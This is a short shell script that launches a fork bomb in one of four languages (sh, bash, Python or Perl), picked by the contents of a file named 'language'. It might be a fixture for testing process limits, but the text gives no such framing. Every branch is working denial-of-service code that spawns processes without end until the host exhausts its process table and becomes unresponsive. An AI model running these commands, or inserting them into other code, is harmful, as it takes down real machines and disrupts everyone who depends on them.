# Multiplies as fast as it can, in the language named by the file "language".
case $(cat language) in
  sh) echo 'b() { b | b & }; b; sleep 100' > bomb; exec sh bomb ;;
  bash) bomb() { bomb | bomb & }; bomb; sleep 100 ;;
  python) exec python3 -c '
import os
while True:
    try: os.fork()
    except OSError: pass' ;;
  perl) exec perl -e 'while (1) { fork }' ;;
esac
